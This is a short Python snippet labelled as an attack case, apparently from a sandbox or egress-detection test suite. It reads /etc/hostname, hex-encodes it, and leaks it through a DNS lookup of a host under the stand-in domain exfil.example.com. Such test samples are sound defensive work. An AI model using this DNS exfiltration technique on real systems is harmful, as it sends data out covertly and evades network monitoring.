# attack: dns_getaddrinfo_exfil
# category: dns_exfil
# kind: dns
# describe: data encoded in a host name, leaked by the resolver's query
import socket
secret = open("/etc/hostname").read().strip().encode().hex()
try:
    socket.getaddrinfo(f"{secret}.exfil.example.com", 80)
except OSError as e:
    print(e)
